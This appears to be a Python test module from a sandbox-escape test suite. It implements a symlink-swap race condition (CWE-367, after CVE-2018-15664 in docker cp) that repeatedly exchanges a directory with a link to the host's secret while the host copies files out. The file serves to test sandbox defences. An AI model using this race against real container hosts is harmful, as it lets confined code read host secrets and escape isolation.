"""Swap a directory for a link to the secret's, again and again, while the host commits a copy that was changed."""

import os
import time
from pathlib import Path

from tests import inside
from tests.escape.technique import against_the_host


def attack(world):
    until = time.monotonic() + 0.6 * world.slowness
    while not os.path.exists("seed") and time.monotonic() < until:
        time.sleep(0.001)
    os.makedirs("real")
    turn = 0
    while time.monotonic() < until:
        turn += 1
        with open("real/secret", "w") as file:
            file.write(str(turn))
        os.symlink(os.path.dirname(world.secret), "link")
        for _ in range(2):
            world.libc.renameat2(-100, b"real", -100, b"link", 2)
            time.sleep(0.001)
        os.unlink("link")


def outside_read(sandbox, targets):
    place = Path(targets.outbox, "project")
    if not place.exists():
        place.mkdir()
        (place / "seed").touch()
        sandbox.files.begin_as(place)
    sandbox.files.commit()
    return "\n".join(path.read_text() for path in place.rglob("*") if path.is_file())


def outside_careless(sandbox, targets):
    sandbox.files.write("seed", "")
    found = set()
    with inside.workspace(sandbox) as top:
        for _ in range(200):
            time.sleep(0.0005)
            try:
                found.add(open(f"{top}/real/secret").read())
            except OSError:
                pass
    return "\n".join(found)


TECHNIQUE = against_the_host("CWE-367; docker cp, CVE-2018-15664", reader=outside_read, careless=outside_careless)
